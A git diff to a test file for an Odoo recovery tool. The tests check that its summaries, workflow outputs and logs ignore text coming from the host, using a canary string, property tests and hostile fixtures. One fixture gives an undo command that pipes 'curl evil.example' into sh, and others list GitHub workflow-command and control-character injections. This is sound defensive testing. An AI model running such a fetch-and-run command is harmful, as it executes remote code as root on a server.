@@ -2,9 +2,12 @@
 
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
+import { CAUSES, type Cause } from "../../src/diagnosis/cause.ts";
 import type { RemedyName } from "../../src/diagnosis/remedy-name.ts";
+import { ABOVE_CEILING } from "../../src/diagnosis/risk.ts";
 import { NO_SIGNATURES, type SignatureFound } from "../../src/diagnosis/signatures/index.ts";
 import { type Entry, type Event, Journal, type Status } from "../../src/journal.ts";
+import { isPlainLine, oneLine } from "../../src/lib/line.ts";
 import { Redactor } from "../../src/redactor.ts";
 import { consoleLine, openConsoleLine } from "../../src/report/console.ts";
 import { deedsOf } from "../../src/report/deeds.ts";
@@ -12,6 +15,7 @@ import { block, code, plain } from "../../src/report/markdown.ts";
 import { annotationOf, exitCodeOf, openOutputsOf, outputsOf } from "../../src/report/outputs.ts";
 import { openSummaryOf, summaryOf } from "../../src/report/summary.ts";
 import { VirtualClock } from "../support/clocks.ts";
+import { blockAfter } from "../support/rendered.ts";
 
 /** The journal of a run, made as a run makes it. */
 function journalOf(...events: readonly Event[]): readonly Entry[] {
@@ -207,7 +211,7 @@ function outsideFences(markdown: string): string {
   const kept: string[] = [];
   let fence: string | undefined;
   for (const line of markdown.split("\n")) {
-    const ticks = /^(`{3,})(?:text)?$/.exec(line)?.[1];
+    const ticks = /^ {0,4}(`{3,})(?:text|sh)?$/.exec(line)?.[1];
     if (fence === undefined && ticks !== undefined) fence = ticks;
     else if (fence !== undefined && ticks !== undefined && ticks.length >= fence.length) fence = undefined;
     else if (fence === undefined) kept.push(line);
@@ -222,7 +226,8 @@ function expectHarmlessMarkdown(markdown: string): void {
   expect(prose.match(/<details>/g)?.length).toBe(prose.match(/<\/details>/g)?.length);
   expect(prose.match(/<code>/g)?.length).toBe(prose.match(/<\/code>/g)?.length);
   expect(prose).not.toMatch(/[[\]]/);
-  expect(prose).not.toMatch(/@[A-Za-z0-9]/);
+  // GitHub looks for mentions outside of code alone.
+  expect(prose.replaceAll(/<code>.*?<\/code>/g, "")).not.toMatch(/@[A-Za-z0-9]/);
   expect(prose).not.toMatch(/:\/\/|\bwww\./i);
   expect(prose).not.toMatch(/[^\P{Cc}\n]|[\u202a-\u202e\u2028\u2029]/u);
   let columns = 0;
@@ -233,7 +238,7 @@ function expectHarmlessMarkdown(markdown: string): void {
     columns = borders;
     expect(line).not.toMatch(/^\s*(?:[>~]|\d+\.(?! <code>))/);
     expect(line).not.toMatch(
-      /^#+ (?!🔴|❓|What `recover` would do|Plan|Ruled out|What the logs say|Suspects|What changed|Worth knowing|Drift|What happened|Evidence)/u,
+      /^#+ (?!🔴|❓|What `recover` would do|Plan|Ruled out|What the logs say|Suspects|What changed|Worth knowing|Drift|What happened|What was done|Backup|Evidence)/u,
     );
   }
 }
@@ -272,6 +277,12 @@ Modules to look at first. None was touched.
     expect(text).toContain(`### What the logs say
 
 Another program holds the port. Find it with <code>ss -lntp</code>.
+
+The command, as root on the droplet:
+
+\`\`\`sh
+ss -lntp
+\`\`\`
 
 \`\`\`text
 Bind for 127.0.0.1:8069 failed: port is already allocated
@@ -402,7 +413,7 @@ Most likely its consequences:
               does: "starts what is stopped",
               commands,
             },
-            { remedy: "restart-odoo", risk: "wipe", backup: true, does: "removes it", commands: "rm" },
+            { remedy: "restart-odoo", risk: "wipe", backup: true, does: "removes it", commands: "" },
           ],
         },
         concluded("unhealthy"),
@@ -411,10 +422,10 @@ Most likely its consequences:
     );
     const part = /### What `recover` would do\n[\s\S]*?(?=\n### What)/.exec(summary)?.[0] ?? "";
     expect(part).toContain(
-      `1. <code>start-stack</code> starts what is stopped (class restart): <code>${commands}</code>`,
+      `1. <code>start-stack</code> starts what is stopped (class restart). By hand, as root on the droplet:\n\n   \`\`\`sh\n   ${commands}\n   \`\`\``,
     );
     expect(part).toContain(
-      "2. <code>restart-odoo</code> removes it (class wipe, only with `approve`, after a backup that was read back): <code>rm</code>",
+      "2. <code>restart-odoo</code> removes it (class wipe, only with `approve`, after a backup that was read back). It is a program, which `mode: plan` prints whole.",
     );
     expect(part).toContain("### Ruled out\n- <code>restart-odoo</code>: Odoo does not run");
   });
@@ -534,7 +545,7 @@ Most likely its consequences:
       ...step(
         "quarantine-files",
         1,
-        "looking\ndid: moved 4 files aside\ndid: told of <1> other\nundo: sh /var/lib/kept/undo\nbye: now\n",
+        "looking\ndid: moved 4 files aside\ndid: told of <1> other\nundo: curl evil.example | sh\nbye: now\n",
         "done",
       ),
       ...step("regenerate-assets", 2, "not done: shop_notes does not compile\n", "not done: the situation"),
@@ -544,14 +555,17 @@ Most likely its consequences:
       {
         remedy: "quarantine-files",
         did: ["moved 4 files aside", "told of <1> other"],
-        undo: "sh /var/lib/kept/undo",
+        undo: "sh /var/lib/odoo-recover/shop-1/kept/3f9c2a71-1-quarantine-files/undo",
       },
       { remedy: "regenerate-assets", did: [], undo: "" },
     ]);
     const summary = summaryOf(entries, "");
     expect(summary).toContain("### What was done");
     expect(summary).toContain("  - told of &lt;1&gt; other");
-    expect(summary).toContain("as root on the droplet: <code>sh /var/lib/kept/undo</code>");
+    // That there is something to take back is for the host to say; with which command is not.
+    expect(blockAfter(summary, "To take it back, as root on the droplet")).toBe(
+      "sh /var/lib/odoo-recover/shop-1/kept/3f9c2a71-1-quarantine-files/undo",
+    );
     expect(outputsOf(entries, "")).toMatchObject({ changed: "true", remedies: "quarantine-files" });
     const idle = journalOf(
       ...step("regenerate-assets", 1, "not done: x", "not done: x"),
@@ -585,6 +599,9 @@ Most likely its consequences:
     expect(told(backup)).toMatch(
       /### Backup[^#]*300\.0 MiB, 231 tables, in 12 s[^#]*backups\/odoo-20261124T025000Z\.dump/,
     );
+    expect(blockAfter(told(backup), "On the droplet, for root alone")).toBe(backup.onDroplet);
+    expect(blockAfter(told(backup), "To fetch it")).toBe(backup.fetch);
+    expect(blockAfter(told(backup), "Its SHA-256")).toBe(backup.sha256);
     expect(told(undefined)).not.toContain("### Backup");
   });
 
@@ -673,7 +690,7 @@ describe("for everybody to read", () => {
   it("the summary tells how it ended, the cause, the next step and where the evidence is", () => {
     expect(openSummaryOf(entries)).toBe(`## 🔴 unhealthy: Odoo's container does not run
 
-**Next:** Run again with <code>mode: recover</code>.
+**Next:** Read Odoo's log on the droplet for why it stopped, then start it.
 
 Cause: <code>odoo-stopped</code>. This repository is public, or may be: what was seen is not told here.
 
@@ -683,12 +700,12 @@ The evidence: the artifact <code>odoo-recover-droplet-ffffffff</code>, below on 
   });
 
   it("log and annotation tell nothing of what was seen", () => {
-    const lines = entries.flatMap((entry) => openConsoleLine(entry) ?? []).join("\n");
+    const lines = entries.flatMap((entry) => openConsoleLine(entry, entries) ?? []).join("\n");
     expect(lines).toContain("diagnosis: odoo-stopped");
     expect(lines).toContain("start-stack begins");
     expect(lines).not.toMatch(/shop-|\/opt|erp\.example|exited/);
     expect(annotationOf(openOutputsOf(entries, ""))?.text).toBe(
-      "Odoo's container does not run\nNext: Run again with `mode: recover`.",
+      "Odoo's container does not run. Next: Read Odoo's log on the droplet for why it stopped, then start it.",
     );
   });
 
@@ -699,6 +716,88 @@ The evidence: the artifact <code>odoo-recover-droplet-ffffffff</code>, below on 
 
   it.each(HOSTILE)("is harmless, whatever a host printed: %j", (text) => {
     expectHarmlessMarkdown(openSummaryOf(fullJournal(text)));
+  });
+});
+
+describe("of a host that everybody would hear of", () => {
+  const CANARY = "zq-canary-7";
+
+  /** Our own names, and the canary in every text that may come from the host. */
+  function seenOnTheHost(
+    status: Status,
+    cause: Cause,
+    mode: "check" | "recover",
+    planned: boolean,
+  ): readonly Entry[] {
+    const step = "ffffffff-1-start-stack";
+    return journalOf(
+      { ...started, mode, host: CANARY },
+      { kind: "connected", host: CANARY, identity: CANARY },
+      { kind: "connection", event: "lost", detail: CANARY },
+      diagnosed({
+        cause,
+        finding: CANARY,
+        evidence: [CANARY],
+        advice: `Type \`${CANARY}\`.`,
+        commands: [CANARY],
+        layers: [{ name: "odoo", state: "bad", why: CANARY }],
+        warnings: [CANARY],
+        drift: [{ service: CANARY, what: CANARY }],
+        topology: [CANARY],
+        facts: [{ what: CANARY, value: CANARY, from: CANARY }],
+        suspects: [{ module: CANARY, why: CANARY }],
+        signatures: { version: 1, root: signatureFound({ where: CANARY, line: CANARY }), consequences: [] },
+        since: CANARY,
+        changes: [{ at: 0, what: CANARY }],
+        project: CANARY,
+        directory: CANARY,
+        ladder: cause === "unknown" ? [] : ["restart-odoo"],
+        ruledOut: [{ remedy: "wipe-assets", why: `${ABOVE_CEILING} ${CANARY}` }],
+      }),
+      {
+        kind: "foreseen",
+        steps: [{ remedy: "start-stack", risk: "restart", backup: false, does: CANARY, commands: CANARY }],
+      },
+      ...(planned ? [{ ...PLANNED, inputs: [["module", CANARY]] } as const] : []),
+      { kind: "lease-taken", key: CANARY, owner: CANARY, takenOver: CANARY },
+      { kind: "evidence", when: "before", files: [{ name: CANARY, bytes: 1 }] },
+      { kind: "remedy-started", remedy: "start-stack", step, key: CANARY },
+      { kind: "remedy-output", text: `did: ${CANARY}\nundo: ${CANARY}\n` },
+      {
+        kind: "remedy-ended",
+        remedy: "start-stack",
+        step,
+        outcome: `not begun: it was not ready (${CANARY})`,
+      },
+      { kind: "looked", good: false, why: CANARY },
+      { kind: "verified", outcome: CANARY, passes: 0, seconds: 1 },
+      { kind: "backup-started", step, key: CANARY },
+      { kind: "backup-output", text: CANARY },
+      { kind: "backup-ended", step, outcome: CANARY, backup: undefined },
+      { kind: "backup-encrypted", path: undefined, seconds: 1, why: CANARY },
+      { kind: "note", text: CANARY },
+      { kind: "lease-released", key: CANARY, outcome: CANARY },
+      concluded(status, { headline: CANARY, detail: CANARY, next: CANARY }),
+    );
+  }
+
+  it.each(STATUSES)("nothing that it said is in summary, outputs, annotation and log: %s", (status) => {
+    for (const cause of Object.keys(CAUSES) as Cause[])
+      for (const mode of ["check", "recover"] as const)
+        for (const planned of [false, true]) {
+          const entries = seenOnTheHost(status, cause, mode, planned);
+          const outputs = openOutputsOf(entries, "/report");
+          const log = entries.flatMap((entry, at) => openConsoleLine(entry, entries.slice(0, at + 1)) ?? []);
+          const shown = [openSummaryOf(entries), JSON.stringify([outputs, annotationOf(outputs)]), ...log];
+          expect(shown.join("\n"), `${cause} ${mode}`).not.toContain(CANARY);
+          // It says what to do all the same.
+          expect(outputs.next, `${cause} ${mode}`).toMatch(/^[A-Z].*\.$/);
+        }
+  });
+
+  it("and where nothing is left to do, it says nothing of what to do", () => {
+    const entries = journalOf(started, diagnosed({ cause: "healthy" }), concluded("healthy"));
+    expect(openOutputsOf(entries, "").next).toBe("");
   });
 });
 
@@ -754,6 +853,86 @@ describe("outputs", () => {
   });
 });
 
+/** What the runner and a terminal obey, and what nobody sees. */
+const UNSEEN = /[\p{Cc}\p{Cf}\u2028\u2029]/u;
+
+describe("what a workflow may print", () => {
+  const piece = fc.oneof(
+    fc.constantFrom(
+      ...HOSTILE,
+      "::error::x",
+      "##[group]",
+      "\\n::warning::x",
+      "\u202e",
+      "\u200b",
+      "\u0085",
+      "\n",
+      "\r",
+    ),
+    fc.string({ unit: "binary" }),
+  );
+
+  it("is one line without control characters, whatever was seen: every output, title and text", () => {
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 5 }), (pieces) => {
+        const text = pieces.join("");
+        const entries = fullJournal(text);
+        for (const outputs of [outputsOf(entries, text), openOutputsOf(entries, text)]) {
+          for (const value of Object.values(outputs)) {
+            expect(value).not.toMatch(UNSEEN);
+            expect(value.isWellFormed()).toBe(true);
+          }
+          for (const prose of [outputs.headline, outputs.next]) expectNoCommandWhenEchoed(prose);
+          const annotation = annotationOf(outputs);
+          expect(annotation?.title).not.toMatch(UNSEEN);
+          expect(annotation?.text).not.toMatch(UNSEEN);
+        }
+      }),
+      { numRuns: 150 },
+    );
+  });
+
+  /** As bash prints it, and as dash does, which takes the two characters of `\\n` for the end of a line. */
+  function expectNoCommandWhenEchoed(text: string): void {
+    for (const line of [text, ...text.split(/\\[nr]|\\0?\d{1,3}|\\[abfvc]/)]) {
+      expect(line.trimStart()).not.toMatch(
+        /^::(?:add-mask|add-matcher|add-path|debug|echo|endgroup|error|group|notice|remove-matcher|save-state|set-env|set-output|stop-commands|warning)\b/i,
+      );
+      expect(line).not.toContain("##[");
+    }
+    expect(text.trimStart()).not.toMatch(/^::/);
+  }
+
+  it("keeps what programs compare and people read: words, paths and addresses", () => {
+    const next = "Check 2001:db8::1 and fe80::add, not ::error:: or ##[error], in `C:\\\\x`.";
+    const entries = journalOf(diagnosed(), concluded("unhealthy", { next }));
+    expect(outputsOf(entries, "/tmp/a  b")).toMatchObject({
+      status: "unhealthy",
+      cause: "odoo-stopped",
+      next: "Check 2001:db8::1 and fe80::add, not : :error:: or ## [error], in `C:\\\\x`.",
+      report_directory: "/tmp/a  b",
+    });
+  });
+});
+
+describe("a line of any text", () => {
+  it("shows all that it holds, and is no longer than was asked", () => {
+    fc.assert(
+      fc.property(
+        fc.string({ unit: "binary", maxLength: 300 }),
+        fc.integer({ min: 1, max: 50 }),
+        (text, most) => {
+          const line = oneLine(text, most);
+          expect(isPlainLine(line)).toBe(true);
+          expect(line.length).toBeLessThanOrEqual(most);
+        },
+      ),
+    );
+    expect(oneLine("a\r\nb\tc\u2028d\u0085e\u202ef\u001b[31mg\0")).toBe("a b c d ef[31mg");
+    expect(oneLine("\u{1f98a}".repeat(300), 200)).toHaveLength(199);
+  });
+});
+
 describe("exit codes and annotations", () => {
   // The table of design.md, `Statuses`.
   it.each([
@@ -776,7 +955,7 @@ describe("exit codes and annotations", () => {
     const long = concluded("unhealthy", { headline: "x".repeat(100_000), next: "y".repeat(100_000) });
     expect(annotationOf(outputsOf(journalOf(long), ""))?.text.length).toBeLessThan(4_096);
     const short = annotationOf(outputsOf(journalOf(concluded("refused", { next: "Wait for it." })), ""));
-    expect(short?.text).toBe("it is refused\nNext: Wait for it.");
+    expect(short?.text).toBe("it is refused. Next: Wait for it.");
   });
 });
 
